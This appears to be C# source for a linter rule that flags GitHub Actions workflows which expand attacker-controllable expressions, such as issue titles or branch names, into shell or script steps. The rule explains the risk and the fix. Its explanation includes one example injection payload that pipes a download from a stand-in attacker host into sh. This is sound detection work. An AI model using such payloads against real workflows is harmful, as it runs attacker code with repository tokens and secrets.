using Bulwark.Documents.GitHubActions;
using Bulwark.Documents.Yaml;
using Bulwark.Core;

namespace Bulwark.Rules.Ci;

/// <summary>GHA001: an attacker-controllable `${{ }}` expanded into a `run:` script or `actions/github-script` code.</summary>
public sealed class ExpressionInjectionRule : WorkflowRule
{
    public static readonly RuleInfo Rule = new(
        "GHA001", "expression-injection", Family.Ci, Severity.High, Confidence.High, 94,
        What: """
            A `${{ … }}` expression whose value an outsider chooses — an issue or pull request title or body, a comment,
            a branch name, a commit message or author, an input of a reusable workflow or action, or an `env:` entry or
            step output derived from one — written directly into a `run:` script or the `script:` of `actions/github-script`
            (and a few other actions that run their input as code).
            """,
        Why: """
            GitHub substitutes expressions into the script text before the shell (or JavaScript) sees it, so the value
            becomes code: a pull request titled `a"; curl https://evil.example/x | sh; echo "` runs the attacker's command
            with the workflow's token and secrets. Contexts whose text nobody outside chooses (SHAs, numbers, logins,
            `secrets.*`, static matrix values) are not reported; a workflow whose triggers never fill a context is not
            either. Severity is high when a privileged event (issues, comments, `pull_request_target`, `workflow_run`,
            pushes of merged commits…) carries the value, medium when only fork pull requests (read-only token, no
            secrets) do, low for `workflow_dispatch` inputs (only people who can run the workflow type them).
            """,
        Example: """
            on: issues
            jobs:
              triage:
                runs-on: ubuntu-latest
                steps:
                  - run: echo "New issue: ${{ github.event.issue.title }}"
            """,
        Fix: """
            Pass the value through an environment variable and quote it in the script; the shell then treats it as
            data:

                  - run: echo "New issue: $TITLE"
                    env:
                      TITLE: ${{ github.event.issue.title }}

            In `actions/github-script`, read `context.payload` or `process.env` instead of interpolating.
            """,
        References:
        [
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
            "https://securitylab.github.com/resources/github-actions-untrusted-input/",
        ])
    { Compliance = Compliance.Injection, Profiles = RuleProfile.Default, Aliases = ["template-injection"] };

    /// <summary>
    /// Actions whose input is run as code or evaluated as a template, and that input (GitHub's CodeQL models list most
    /// of them).
    /// </summary>
    static readonly (string Action, string Input, string Sink)[] CodeInputs =
    [
        ("actions/github-script", "script", "JavaScript of actions/github-script"),
        ("amadevus/pwsh-script", "script", "PowerShell script of amadevus/pwsh-script"),
        ("jannekem/run-python-script-action", "script", "Python script of jannekem/run-python-script-action"),
        ("cardinalby/js-eval-action", "expression", "JavaScript of cardinalby/js-eval-action"),
        ("azure/cli", "inlineScript", "script of azure/cli"),
        ("azure/powershell", "inlineScript", "script of azure/powershell"),
        ("appleboy/ssh-action", "script", "remote script of appleboy/ssh-action"),
        ("mikefarah/yq", "cmd", "command of mikefarah/yq"),
        ("devorbitus/yq-action-output", "cmd", "command of devorbitus/yq-action-output"),
        ("sergeysova/jq-action", "cmd", "command of sergeysova/jq-action"),
        ("addnab/docker-run-action", "run", "script of addnab/docker-run-action"),
        ("addnab/docker-run-action", "options", "`docker run` options of addnab/docker-run-action"),
        ("gautamkrishnar/blog-post-workflow", "item_exec", "code of gautamkrishnar/blog-post-workflow"),
        ("8398a7/action-slack", "custom_payload", "payload code of 8398a7/action-slack"),
        ("tibdex/backport", "title_template", "template of tibdex/backport"),
        ("tibdex/backport", "body_template", "template of tibdex/backport"),
        ("tibdex/backport", "head_template", "template of tibdex/backport"),
        ("tibdex/backport", "labels_template", "template of tibdex/backport"),
    ];

    public override RuleInfo Info => Rule;

    public override void Check(ActionsDocument document, DocumentContext context)
    {
        var flow = new ActionsDataflow(document);
        foreach (var job in document.Jobs)
            foreach (var step in job.Steps)
            {
                if (step.Run is { } run)
                {
                    CheckSink(run, "shell script", job, step, flow, document, context);
                    CheckReevaluated(run, job, step, flow, document, context);
                }
                if (step.Uses is { } uses)
                    foreach (var (action, input, sink) in CodeInputs)
                        if (uses.Is(action) && step.With?[input] is YamlScalar code)
                            CheckSink(code, sink, job, step, flow, document, context);
            }
    }

    // Passing a value through `env:` is the fix, unless the script then evaluates the variable as code.
    void CheckReevaluated(YamlScalar run, Job job, Step step, ActionsDataflow flow, ActionsDocument document, DocumentContext context)
    {
        foreach (var line in ShellScript.Lines(document.Text, run.Start, Math.Min(run.End, document.Text.Length)))
            foreach (var (name, start, end) in ShellScript.ReevaluatedVariables(ShellScript.WithoutComment(line.Text)))
            {
                if (flow.TaintOfVariable(name, job, step) is not { } taint) continue;
                context.Report(this, line.Start + start, line.Start + end,
                    $"`${name}` holds {taint.Source} and the script evaluates it as code (`eval`, `sh -c`, `python -c`…), so it can inject commands; " +
                    "use it only as a quoted argument",
                    taint.Severity, taint.Confidence, related: Steps(context, taint.Path));
            }
    }

    void CheckSink(YamlScalar sink, string sinkName, Job job, Step step, ActionsDataflow flow, ActionsDocument document, DocumentContext context)
    {
        var text = document.Text;
        foreach (var span in Expressions.Find(text, sink.Start, Math.Min(sink.End, text.Length)))
        {
            if (Expressions.Parse(text, span.InnerStart, span.InnerEnd) is not { } expr) continue;
            if (flow.TaintOfExpression(expr, job, step) is not { } taint) continue;
            context.Report(this, span.Start, span.End,
                $"{taint.Source} is expanded into the {sinkName} before it runs, so its text can inject code; " +
                "pass it through `env:` and use the variable instead",
                taint.Severity, taint.Confidence, related: Steps(context, taint.Path));
        }
    }
}
